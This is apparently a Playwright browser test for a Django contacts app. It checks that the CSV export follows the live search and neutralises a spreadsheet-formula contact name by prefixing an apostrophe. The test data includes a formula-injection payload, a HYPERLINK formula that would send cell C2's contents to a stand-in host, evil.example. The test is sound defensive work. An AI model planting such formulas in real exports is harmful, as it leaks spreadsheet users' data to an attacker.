"""The contacts export in a real browser: it follows what the search box found, and a name a
customer chose as a formula arrives as text."""

from __future__ import annotations

import csv
import io
import random
import string

import pytest
from playwright.sync_api import expect

from contacts import actions

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]


def test_the_export_downloads_what_the_search_found_with_formulas_as_text(
    login_page, viewer, operator, live_server, new_phone
):
    tag = "".join(random.choices(string.ascii_lowercase, k=10))
    formula = f'=HYPERLINK("http://evil.example/?c="&C2,"{tag}")'
    found = actions.create_contact({"name": formula, "phone": new_phone()}, user=operator, source="test")
    actions.create_contact({"name": "Not searched for", "phone": new_phone()}, user=operator, source="test")
    page = login_page(viewer)
    page.goto(f"{live_server.url}/contacts/")

    page.get_by_role("searchbox", name="Search contacts").press_sequentially(tag)  # the live search
    expect(page.locator("#results tbody tr")).to_have_count(1)
    export = page.get_by_role("link", name="Export CSV of this search")
    expect(export).to_have_attribute("href", f"/contacts/export.csv?q={tag}")

    with page.expect_download() as download:
        export.click()
    rows = list(csv.reader(io.StringIO(download.value.path().read_text(encoding="utf-8"))))
    assert [(row[0], row[1]) for row in rows[1:]] == [(found.contactId, "'" + formula)]
